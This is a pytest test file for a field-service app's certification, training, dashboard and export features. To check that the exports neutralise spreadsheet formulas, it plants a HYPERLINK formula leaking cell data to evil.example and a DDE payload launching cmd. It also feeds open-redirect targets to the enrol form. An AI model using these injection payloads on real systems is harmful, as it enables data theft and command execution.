"""Certificate status boundaries, training (capacity, double booking, results granting or renewing
certificates), the dashboard, its exports, and the installer's own page."""
from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from fieldsvc.auth.models import Role, User
from fieldsvc.certifications.models import (
    Certification,
    CertificationStatus,
    CertificationType,
    TrainingCourse,
    TrainingRecord,
    TrainingResult,
    TrainingSession,
)
from fieldsvc.certifications.services import (
    certificate_dates,
    certification_status,
    record_certification,
)
from fieldsvc.certifications.training import enrol, record_result
from fieldsvc.db import local_today, utcnow
from fieldsvc.errors import Conflict, Forbidden, InvalidInput, RuleViolation
from fieldsvc.extensions import db
from fieldsvc.workorders import lifecycle
from tests import factories as f
from tests.conftest import csrf_token, sign_in

SHANGHAI = ZoneInfo("Asia/Shanghai")
TODAY = date(2026, 11, 28)


def user(username: str) -> User:
    return db.session.scalar(select(User).where(User.username == username))


def cert_type(code: str) -> CertificationType:
    f.reference()
    return db.session.scalar(select(CertificationType).where(CertificationType.code == code))


# --- status boundaries -------------------------------------------------------------------------

def test_dates_follow_the_type(app_ctx: Flask) -> None:
    assert certificate_dates(cert_type("work_at_height"), date(2020, 3, 1)) == (date(2026, 2, 28), date(2023, 3, 1))
    assert certificate_dates(cert_type("service_star"), date(2024, 1, 31)) == (date(2025, 1, 30), None)


@pytest.mark.parametrize(
    ("expires", "review", "revoked", "expected"),
    [
        (TODAY, None, False, CertificationStatus.EXPIRING),  # expiring today: still valid, in the window
        (TODAY - timedelta(days=1), None, False, CertificationStatus.EXPIRED),  # expired yesterday
        (TODAY + timedelta(days=400), TODAY, False, CertificationStatus.REVIEW_DUE),  # review due today
        (TODAY + timedelta(days=400), TODAY + timedelta(days=1), False, CertificationStatus.VALID),
        (TODAY + timedelta(days=89), None, False, CertificationStatus.EXPIRING),
        (TODAY + timedelta(days=90), None, False, CertificationStatus.VALID),
        (TODAY + timedelta(days=400), None, True, CertificationStatus.REVOKED),
    ],
)
def test_status_boundaries(app_ctx: Flask, expires: date, review: date | None, revoked: bool, expected) -> None:
    height = cert_type("work_at_height")  # renewal window 90 days
    certificate = Certification(certification_type=height, issued_on=date(2021, 1, 1), expires_on=expires,
                                next_review_on=review, revoked_at=utcnow() if revoked else None)
    assert certification_status(certificate, TODAY, height.renewal_window_days) is expected


def test_the_day_changes_at_midnight_in_shanghai(app_ctx: Flask) -> None:
    """23:59 on the expiry day in Shanghai (15:59 UTC) is still that day; 00:00 is the next."""
    from unittest.mock import patch

    height = cert_type("work_at_height")
    certificate = Certification(certification_type=height, issued_on=date(2021, 1, 1), expires_on=TODAY,
                                next_review_on=None)
    before = datetime(2026, 11, 28, 15, 59, tzinfo=UTC)
    after = datetime(2026, 11, 28, 16, 0, tzinfo=UTC)
    with patch("fieldsvc.db.utcnow", return_value=before):
        assert certification_status(certificate, local_today(SHANGHAI), 90) is CertificationStatus.EXPIRING
    with patch("fieldsvc.db.utcnow", return_value=after):
        assert certification_status(certificate, local_today(SHANGHAI), 90) is CertificationStatus.EXPIRED


def test_recording_refuses_bad_input(app_ctx: Flask) -> None:
    installer = f.make_user(username="w1", team=f.make_team())
    supervisor = f.make_user(Role.SUPERVISOR, username="s1")
    for kwargs in ({"type_code": "nope"}, {"type_code": "service_star", "level": 9},
                   {"type_code": "work_at_height", "level": 2}, {"type_code": "service_star"}):
        with pytest.raises(InvalidInput):
            record_certification(installer, issued_on=TODAY, today=TODAY, **kwargs)
    with pytest.raises(InvalidInput):
        record_certification(installer, "ftth", TODAY + timedelta(days=1), today=TODAY)
    with pytest.raises(InvalidInput):
        record_certification(supervisor, "ftth", TODAY, today=TODAY)
    assert db.session.scalar(select(func.count()).select_from(Certification)) == 0


# --- training ----------------------------------------------------------------------------------

def _held(session: TrainingSession) -> None:
    """Time passes: the session took place yesterday."""
    session.starts_at = utcnow() - timedelta(days=1)
    session.ends_at = session.starts_at + timedelta(hours=8)


def _session(course_code: str = "SAF-01", capacity: int = 2, days_ahead: int = 3) -> TrainingSession:
    course = db.session.scalar(select(TrainingCourse).where(TrainingCourse.code == course_code))
    if course is None:
        course = TrainingCourse(code=course_code, name_zh="安全生产", name_en="Safety", hours=8, pass_mark=60,
                                grants_certification_type=cert_type("work_at_height"))
        db.session.add(course)
    start = utcnow() + timedelta(days=days_ahead)
    session = TrainingSession(course=course, starts_at=start, ends_at=start + timedelta(hours=8),
                              place="洪山培训中心", trainer="李老师", capacity=capacity)
    db.session.add(session)
    db.session.flush()
    return session


@pytest.fixture
def people(app_ctx: Flask) -> dict[str, User]:
    hs, ja = f.make_team("HS01"), f.make_team("JA01", districts=("jiangan",))
    found = {
        "w1": f.make_user(username="w1", team=hs), "w2": f.make_user(username="w2", team=hs),
        "w3": f.make_user(username="w3", team=hs), "w9": f.make_user(username="w9", team=ja),
        "s1": f.make_user(Role.SUPERVISOR, username="s1", team=hs), "admin": f.make_user(Role.ADMIN, username="admin"),
    }
    db.session.commit()
    return found


def test_capacity_double_booking_and_overlap(people: dict[str, User]) -> None:
    session = _session(capacity=2)
    now = utcnow()
    enrol(session.id, people["w1"], people["s1"], now)
    with pytest.raises(Conflict, match="already booked"):
        enrol(session.id, people["w1"], people["s1"], now)
    enrol(session.id, people["w2"], people["w2"], now)  # an installer books themself
    with pytest.raises(Conflict, match="full"):
        enrol(session.id, people["w3"], people["admin"], now)
    overlapping = _session("FTTH-01", capacity=5)
    with pytest.raises(Conflict, match="another session"):
        enrol(overlapping.id, people["w1"], people["admin"], now)
    with pytest.raises(Forbidden):
        enrol(overlapping.id, people["w9"], people["s1"], now)  # another team's installer
    with pytest.raises(Forbidden):
        enrol(overlapping.id, people["w3"], people["w1"], now)  # installers book only themselves
    assert db.session.scalar(select(func.count()).select_from(TrainingRecord)) == 2


def test_passing_renews_an_expired_height_certificate_and_assignment_works_again(people: dict[str, User]) -> None:
    w1 = people["w1"]
    f.make_certification(w1, "service_star", level=2)
    f.make_certification(w1, "work_at_height", issued_on=f.today() - timedelta(days=2200))
    old = f.make_certification(w1, "work_at_height", issued_on=f.today() - timedelta(days=3000),
                               expires_on=f.today() - timedelta(days=1), next_review_on=None)
    order = f.make_work_order(is_work_at_height=True)
    db.session.commit()
    with pytest.raises(RuleViolation) as refused:
        lifecycle.assign(order, people["s1"], "w1", order.version, today=f.today())
    assert refused.value.details["unmet"][0]["certification_type"] == "work_at_height"
    db.session.rollback()
    session = _session(days_ahead=1)
    record = enrol(session.id, w1, people["s1"], utcnow())
    with pytest.raises(Conflict, match="not taken place"):
        record_result(record, people["admin"], True, 90, f.today(), SHANGHAI)
    _held(session)
    with pytest.raises(Forbidden):
        record_result(record, people["s1"], True, 90, f.today(), SHANGHAI)
    outcome = record_result(record, people["admin"], True, 85, f.today(), SHANGHAI)
    assert record.result is TrainingResult.PASSED and outcome.certification is not None
    assert outcome.certification.training_record_id == record.id and "SAF-01" in outcome.certification.evidence
    with pytest.raises(Conflict):
        record_result(record, people["admin"], True, 99, f.today(), SHANGHAI)
    db.session.commit()
    lifecycle.assign(order, people["s1"], "w1", order.version, today=f.today() + timedelta(days=2))
    assert order.assignee == w1 and old.id != outcome.certification.id  # history kept


def test_a_certificate_is_dated_by_the_session_s_local_day(people: dict[str, User]) -> None:
    """A session at 07:00 in Wuhan starts at 23:00 UTC the day before: the certificate carries
    the local day, and the result can be recorded on that day."""
    session = _session()
    record = enrol(session.id, people["w1"], people["admin"], utcnow())
    day = f.today() - timedelta(days=1)
    session.starts_at = datetime.combine(day, time(7, 0), tzinfo=SHANGHAI).astimezone(UTC)
    session.ends_at = session.starts_at + timedelta(hours=8)
    assert session.starts_at.date() == day - timedelta(days=1)
    outcome = record_result(record, people["admin"], True, 90, day, SHANGHAI)
    assert outcome.certification is not None and outcome.certification.issued_on == day


def test_failing_or_absence_grants_nothing(people: dict[str, User]) -> None:
    session = _session()
    first, second = (enrol(session.id, people[u], people["admin"], utcnow()) for u in ("w1", "w2"))
    _held(session)
    failed = record_result(first, people["admin"], True, 40, f.today(), SHANGHAI)
    absent = record_result(second, people["admin"], False, None, f.today(), SHANGHAI)
    assert failed.record.result is TrainingResult.FAILED and absent.record.result is TrainingResult.ABSENT
    assert failed.certification is None and absent.certification is None
    assert db.session.scalar(select(func.count()).select_from(Certification)) == 0


# --- pages -------------------------------------------------------------------------------------

@pytest.fixture
def branch(app: Flask) -> None:
    with app.app_context():
        hs, ja = f.make_team("HS01"), f.make_team("JA01", districts=("jiangan",))
        f.certify_fully(f.make_user(username="w1", team=hs, name="张伟"))
        rookie = f.make_user(username="w2", team=hs, name="李强")
        f.make_certification(rookie, "service_star", level=1, issued_on=f.today() - timedelta(days=350))
        f.certify_fully(f.make_user(username="w9", team=ja, name="王芳"))
        f.make_user(Role.SUPERVISOR, username="s1", team=hs)
        f.make_user(Role.ADMIN, username="admin")
        f.make_user(Role.INSTALLER, username="w3", team=hs)
        _session(days_ahead=5)
        db.session.commit()


def test_dashboard_shows_coverage_teams_due_and_blocked(client: FlaskClient, branch: None) -> None:
    sign_in(client, "s1")
    page = client.get("/certifications").get_data(as_text=True)
    assert "<small>w1</small>" in page and "<small>w2</small>" in page and "<small>w9</small>" not in page
    assert "1/3" in page  # HS01: only w1 is fully certified (w2 lacks ftth, w3 everything)
    assert "Blocked from job types" in page and "New install (FTTH installation and commissioning)" in page
    blocked = page.split("Blocked from job types")[1].split("Coverage")[0]
    assert not re.search(r"\b[a-z]+_[a-z_]+\b|\(ftth\)|(?<!New )install \(", blocked)  # names, not codes
    assert "Expiring or due for review" in page and "Enrol: SAF-01" not in page  # w2's star is not height
    assert "◔" in page or "✔" in page
    filtered = client.get("/certifications?type=ftth").get_data(as_text=True)
    assert "Special operations: work at height" not in filtered.split("Coverage")[1]


@pytest.mark.parametrize("target, lands", [
    ("/certifications", "/certifications"), ("/\\evil.example/", "/training"), ("//evil.example/", "/training"),
    ("https://evil.example/", "/training"), ("training", "/training"),
])
def test_enrolling_goes_back_only_to_a_page_of_this_site(client: FlaskClient, branch: None, target: str,
                                                          lands: str) -> None:
    # Browsers read "/\\host" as "//host": another site.
    sign_in(client, "s1")
    response = client.post("/certifications/enrol", data={"csrf_token": csrf_token(client, "/training"),
                                                           "next": target})
    assert response.status_code == 302 and response.headers["Location"] == lands


def test_dashboard_permissions(client: FlaskClient, branch: None) -> None:
    sign_in(client, "w1")
    for path in ("/certifications", "/certifications/export.csv", "/certifications/export.xlsx"):
        assert client.get(path).status_code == 403


def test_exports_keep_chinese_text(client: FlaskClient, branch: None) -> None:
    sign_in(client, "admin")
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "zh-CN"
    response = client.get("/certifications/export.csv")
    assert response.mimetype == "text/csv" and response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][0] == "工号" and any(row[1] == "张伟" for row in rows[1:])
    assert any("特种作业操作证" in row[3] for row in rows[1:])
    workbook = load_workbook(io.BytesIO(client.get("/certifications/export.xlsx").data))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert "张伟" in values and "王芳" in values


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_branch(app: Flask, branch: None) -> None:
    """The branch, with a certification type named and a certificate numbered like formulas."""
    with app.app_context():
        ftth = cert_type("ftth")
        ftth.name_zh = ftth.name_en = HYPERLINK
        certificate = db.session.scalar(select(Certification).where(
            Certification.user_id == user("w1").id, Certification.certification_type_id == ftth.id))
        certificate.number = DDE
        user("w2").name = user("w2").name_en = "-1+1"
        db.session.commit()


def test_csv_export_neutralises_formulas(client: FlaskClient, hostile_branch: None) -> None:
    sign_in(client, "admin")
    rows = list(csv.reader(io.StringIO(client.get("/certifications/export.csv").data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and "'" + DDE in cells and "'-1+1" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_xlsx_export_has_no_formulas_and_keeps_numbers_and_dates_typed(client: FlaskClient,
                                                                       hostile_branch: None) -> None:
    sign_in(client, "admin")
    sheet = load_workbook(io.BytesIO(client.get("/certifications/export.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert "'" + HYPERLINK in values and "'" + DDE in values and "'-1+1" in values
    w1_star = next(row for row in sheet.iter_rows(values_only=True) if row[0] == "w1" and row[5] == 3)
    assert isinstance(w1_star[7], datetime)  # issued on: a date cell, not text


def test_installer_sees_own_certificates_and_books_a_session(client: FlaskClient, branch: None, app: Flask) -> None:
    sign_in(client, "w2")
    page = client.get("/me/certifications").get_data(as_text=True)
    assert "Job types I may not do" in page and "Book me" in page
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    session_id = re.search(r'name="session_id" value="(\d+)"', page).group(1)
    response = client.post("/certifications/enrol", data={"csrf_token": token, "username": "w2",
                                                          "session_id": session_id, "next": "/me/certifications"})
    assert response.status_code == 302
    other = client.post("/certifications/enrol", data={"csrf_token": token, "username": "w1", "session_id": session_id})
    assert other.status_code in (302, 404)
    with app.app_context():
        booked = db.session.scalars(select(TrainingRecord.user_id)).all()
        assert booked == [user("w2").id]
    assert client.get("/certifications").status_code == 403


def test_training_pages_and_results(client: FlaskClient, branch: None, app: Flask) -> None:
    sign_in(client, "admin")
    page = client.get("/training").get_data(as_text=True)
    assert "Schedule a session" in page
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    course = re.search(r'<option value="(\d+)"', page).group(1)
    day = (f.today() + timedelta(days=10)).isoformat()
    bad = client.post("/training/sessions", data={"csrf_token": token, "course": course, "day": day,
                                                   "starts": "14:00", "ends": "09:00", "place": "x", "trainer": "y",
                                                   "capacity": "10"}, follow_redirects=True)
    assert "The session has errors" in bad.get_data(as_text=True)
    made = client.post("/training/sessions", data={"csrf_token": token, "course": course, "day": day,
                                                    "starts": "09:00", "ends": "17:00", "place": "江岸培训中心",
                                                    "trainer": "陈老师", "capacity": "10"})
    assert made.status_code == 302
    session_page = client.get(made.headers["Location"]).get_data(as_text=True)
    assert "江岸培训中心" in session_page and "0 of 10 seats taken" in session_page
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(TrainingSession)) == 2


def test_admin_records_and_revokes_on_the_installer_page(client: FlaskClient, branch: None, app: Flask) -> None:
    sign_in(client, "admin")
    page = client.get("/certifications/installers/w2").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    bad = client.post("/certifications/installers/w2", data={"csrf_token": token, "type": "ftth",
                                                             "issued_on": (f.today() + timedelta(days=3)).isoformat()})
    assert bad.status_code == 400 and "future" in bad.get_data(as_text=True)
    good = client.post("/certifications/installers/w2", data={"csrf_token": token, "type": "ftth",
                                                              "issued_on": f.today().isoformat(), "number": "FT-001"})
    assert good.status_code == 302
    with app.app_context():
        ftth = db.session.scalar(select(Certification).where(Certification.number == "FT-001"))
        assert ftth.user.username == "w2" and ftth.expires_on > f.today()
        certificate_id = ftth.id
    assert client.post(f"/certifications/{certificate_id}/revoke", data={"csrf_token": token, "reason": ""}).status_code == 302
    client.post(f"/certifications/{certificate_id}/revoke", data={"csrf_token": token, "reason": "伪造证书"})
    with app.app_context():
        assert db.session.get(Certification, certificate_id).revoked_reason == "伪造证书"


def test_supervisors_see_only_their_installers_and_cannot_record(client: FlaskClient, branch: None) -> None:
    sign_in(client, "s1")
    assert client.get("/certifications/installers/w1").status_code == 200
    assert client.get("/certifications/installers/w9").status_code == 404
    page = client.get("/certifications/installers/w1").get_data(as_text=True)
    assert "Record a certificate" not in page
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)
    assert client.post("/certifications/installers/w1", data={"csrf_token": token, "type": "ftth",
                                                              "issued_on": f.today().isoformat()}).status_code == 403
    assert client.post("/certifications/1/revoke", data={"csrf_token": token, "reason": "x"}).status_code == 403


def test_dashboard_horizon_defaults_to_90_days_and_says_so(client: FlaskClient, branch: None) -> None:
    sign_in(client, "s1")
    page = client.get("/certifications").get_data(as_text=True)
    assert re.search(r'<option selected value="90">|<option value="90" selected>', page)


@pytest.mark.parametrize("reader, sees", [("admin", {"w1", "w9"}), ("s1", {"w1"}), ("w1", {"w1"}), ("w9", {"w9"})])
def test_a_session_page_lists_the_enrolments_its_reader_may_see(client: FlaskClient, app: Flask, reader: str,
                                                              sees: set[str]) -> None:
    with app.app_context():
        hs, ja = f.make_team("HS01"), f.make_team("JA01", districts=("jiangan",))
        w1, w9 = f.make_user(username="w1", team=hs), f.make_user(username="w9", team=ja)
        f.make_user(Role.SUPERVISOR, username="s1", team=hs)
        admin = f.make_user(Role.ADMIN, username="admin")
        f.make_user(username="w2", team=hs)
        session = _session()
        enrol(session.id, w1, admin, utcnow())
        enrol(session.id, w9, admin, utcnow())
        session_id = session.id
        db.session.commit()
    sign_in(client, reader)
    page = client.get(f"/training/sessions/{session_id}").get_data(as_text=True)
    assert {name for name in ("w1", "w9") if f"<small>{name}</small>" in page} == sees
    assert "2 of 2 seats taken" in page  # the seats count every enrolment, seen or not


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_a_session_in_year_1_or_9999_is_refused_and_scheduled_nowhere(client: FlaskClient, branch: None, app: Flask,
                                                                      day: str) -> None:
    sign_in(client, "admin")
    page = client.get("/training").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    course = re.search(r'<option value="(\d+)"', page).group(1)
    response = client.post("/training/sessions", data={"csrf_token": token, "course": course, "day": day,
                                                       "starts": "07:00", "ends": "09:00", "place": "x", "trainer": "y",
                                                       "capacity": "10"}, follow_redirects=True)
    assert "Must be from 1900-01-01 to 2999-12-31." in response.get_data(as_text=True)  # was a 500 (overflow)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(TrainingSession)) == 1


def test_enrolling_in_a_session_id_beyond_any_column_is_refused(client: FlaskClient, branch: None, app: Flask) -> None:
    sign_in(client, "s1")
    response = client.post("/certifications/enrol", data={"csrf_token": csrf_token(client, "/training"), "session_id": "99999999999999999999",
                                                          "username": "w1"}, follow_redirects=True)
    assert response.status_code == 200 and "Choose a session and an installer." in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(TrainingRecord)) == 0


def test_a_session_page_says_whose_seats_and_offers_results_only_once_it_took_place(client: FlaskClient,
                                                                                    app: Flask) -> None:
    """The seat count is every team's; the list (and its empty line) is the reader's teams'. The
    "Record" form shows from the session's day on, when recording is allowed."""
    with app.app_context():
        hs, ja = f.make_team("HS01"), f.make_team("JA01", districts=("jiangan",))
        w9 = f.make_user(username="w9", team=ja)
        f.make_user(Role.SUPERVISOR, username="s1", team=hs)
        admin = f.make_user(Role.ADMIN, username="admin")
        future = _session(days_ahead=3)
        enrol(future.id, w9, admin, utcnow())
        past = _session(days_ahead=5)
        enrol(past.id, w9, admin, utcnow())
        past.starts_at, past.ends_at = utcnow() - timedelta(days=2), utcnow() - timedelta(days=2) + timedelta(hours=8)
        ids = future.id, past.id
        db.session.commit()
    sign_in(client, "s1")
    page = client.get(f"/training/sessions/{ids[0]}").get_data(as_text=True)
    assert "1 of 2 seats taken, all teams together" in page
    assert "Booked from your teams (0)" in page and "Nobody from your teams is booked yet." in page
    assert "Nobody is booked yet." not in page
    client.post("/logout", data={"csrf_token": re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)})
    sign_in(client, "admin")
    future_page = client.get(f"/training/sessions/{ids[0]}").get_data(as_text=True)
    assert "Booked (1)" in future_page and "/result" not in future_page
    assert "/result" in client.get(f"/training/sessions/{ids[1]}").get_data(as_text=True)


def test_the_enrol_picker_groups_installers_by_team_and_leaves_out_those_booked(client: FlaskClient,
                                                                                app: Flask) -> None:
    with app.app_context():
        hs, ja = f.make_team("HS01"), f.make_team("JA01", districts=("jiangan",))
        for username, team, name in (("w1", hs, "Zhang Wei"), ("w2", hs, "Li Qiang"), ("w9", ja, "Wang Fang")):
            f.make_user(username=username, team=team, name_en=name)
        admin = f.make_user(Role.ADMIN, username="admin")
        session = _session(capacity=10)
        enrol(session.id, user("w2"), admin, utcnow())
        session_id, teams = session.id, (hs.name_en, ja.name_en)
        db.session.commit()
    sign_in(client, "admin")
    page = client.get(f"/training/sessions/{session_id}").get_data(as_text=True)
    picker = page[page.index("<select"):page.index("</select>")]
    groups = re.findall(r'<optgroup label="([^"]+)">(.*?)</optgroup>', picker, re.S)
    assert [(label, re.findall(r'value="(\w+)"', body)) for label, body in groups] == [(teams[0], ["w1"]),
                                                                                     (teams[1], ["w9"])]
    assert 'data-filter-select="username"' in page and "js/filter-select.js" in page
